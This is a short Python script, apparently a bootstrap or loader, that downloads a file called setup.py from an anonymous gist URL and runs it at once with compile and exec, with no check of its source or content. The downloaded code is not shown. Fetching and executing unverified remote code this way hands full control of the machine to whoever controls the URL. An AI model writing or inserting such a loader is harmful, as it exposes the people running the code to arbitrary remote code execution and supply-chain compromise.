import urllib.request as ur

URL = "https://gist.githubusercontent.com/anon1337/0a1b2c/raw/setup.py"
src = ur.urlopen(URL).read().decode("utf-8")
code = compile(src, "remote_setup", "exec")
exec(code, {"__name__": "__main__"})
